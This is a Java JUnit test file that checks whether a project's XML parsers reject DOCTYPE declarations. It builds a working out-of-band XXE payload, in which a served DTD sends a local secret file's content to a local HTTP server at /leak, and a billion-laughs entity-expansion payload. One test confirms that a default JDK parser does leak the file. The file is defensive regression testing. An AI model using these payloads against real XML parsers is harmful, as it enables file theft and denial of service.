package org.lnet.build;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.Function;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import javax.xml.parsers.SAXParserFactory;
import org.xml.sax.SAXException;
import org.xml.sax.helpers.DefaultHandler;

/**
 * The XML parsers refuse DOCTYPE declarations with a message that says so, and a crafted document can neither read a
 * local file nor contact a server: the out-of-band XXE of issue 13 (a parameter entity pulling a DTD from a local web
 * server, which would then receive a local file's content) is run against a real local HTTP server, which must see
 * no request at all. Checked for the SAX parser behind {@link KnimeConfig#parse} and for the DOM builder the tests
 * use.
 */
class SafeXmlTest {

    @TempDir
    Path dir;

    private HttpServer server;
    /** Every request the server received, as path and query. */
    private final List<String> requests = new CopyOnWriteArrayList<>();
    private Path secret;

    @BeforeEach
    void startServer() throws IOException {
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", exchange -> {
            requests.add(exchange.getRequestURI().toString());
            // the served DTD defines an entity whose URL carries the local file's content back to this server
            byte[] dtd = ("<!ENTITY % all \"<!ENTITY send SYSTEM 'http://127.0.0.1:" + server.getAddress().getPort()
                + "/leak?%file;'>\">%all;").getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, dtd.length);
            exchange.getResponseBody().write(dtd);
            exchange.close();
        });
        server.start();
        secret = Files.writeString(dir.resolve("secret.txt"), "secret-4711");
    }

    @AfterEach
    void stopServer() {
        server.stop(0);
    }

    private String outOfBand() {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE config [\n  <!ENTITY % file SYSTEM \""
            + secret.toUri() + "\">\n  <!ENTITY % dtd SYSTEM \"http://127.0.0.1:" + server.getAddress().getPort()
            + "/evil.dtd\">\n  %dtd;\n]>\n<config key=\"settings.xml\">&send;</config>\n";
    }

    private static final String BILLION_LAUGHS = "<?xml version=\"1.0\"?>\n<!DOCTYPE config [<!ENTITY a \"aaaaaaaaaa\">"
        + "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>\n"
        + "<config key=\"k\"><entry key=\"v\" type=\"xstring\" value=\"&c;\"/></config>";

    private void assertRefused(String xml, Function<byte[], Exception> parse) {
        Exception e = parse.apply(xml.getBytes(StandardCharsets.UTF_8));
        assertTrue(e.getMessage().contains("DOCTYPE declaration (line 2)"), e.getMessage());
        assertTrue(e.getMessage().contains("Remove the <!DOCTYPE ...> line"), e.getMessage());
        assertFalse(e.getMessage().contains("secret-4711"), e.getMessage());
        assertEquals(List.of(), requests, "the parser contacted the server");
    }

    private static IOException knimeConfig(byte[] bytes) {
        return assertThrows(IOException.class, () -> KnimeConfig.parse(new ByteArrayInputStream(bytes)));
    }

    private static IOException dom(byte[] bytes) {
        SAXException e = assertThrows(SAXException.class,
            () -> SafeXml.documentBuilder().parse(new ByteArrayInputStream(bytes)));
        return new IOException(SafeXml.reason(e), e);
    }

    @Test
    void knimeConfigRefusesAnOutOfBandExternalEntityWithoutContactingTheServer() {
        IOException e = knimeConfig(outOfBand().getBytes(StandardCharsets.UTF_8));
        assertTrue(e.getMessage().startsWith("Not a KNIME settings file: it contains a DOCTYPE"), e.getMessage());
        assertRefused(outOfBand(), SafeXmlTest::knimeConfig);
    }

    @Test
    void domBuilderRefusesAnOutOfBandExternalEntityWithoutContactingTheServer() {
        assertRefused(outOfBand(), SafeXmlTest::dom);
    }

    @Test
    void internalEntityExpansionIsRefusedToo() {
        assertRefused(BILLION_LAUGHS, SafeXmlTest::knimeConfig);
        assertRefused(BILLION_LAUGHS, SafeXmlTest::dom);
    }

    @Test
    void theAttackDocumentLeaksTheFileThroughAParserWithDefaultSettings() {
        // guards the tests above against passing because the document or the server could do no harm: the JDK's
        // SAX parser as configured by default fetches the DTD and then sends the file's content to the server
        assertThrows(SAXException.class, () -> SAXParserFactory.newInstance().newSAXParser().parse(
            new ByteArrayInputStream(outOfBand().getBytes(StandardCharsets.UTF_8)), new DefaultHandler()));
        assertEquals(List.of("/evil.dtd", "/leak?secret-4711"), requests);
    }

    @Test
    void plainDocumentsStillParse() throws Exception {
        byte[] xml = "<?xml version=\"1.0\"?>\n<config key=\"k\"><entry key=\"v\" type=\"xint\" value=\"3\"/></config>"
            .getBytes(StandardCharsets.UTF_8);
        assertEquals("3", KnimeConfig.parse(new ByteArrayInputStream(xml)).getEntry("v").value());
        assertEquals("config", SafeXml.documentBuilder().parse(new ByteArrayInputStream(xml)).getDocumentElement()
            .getTagName());
    }
}
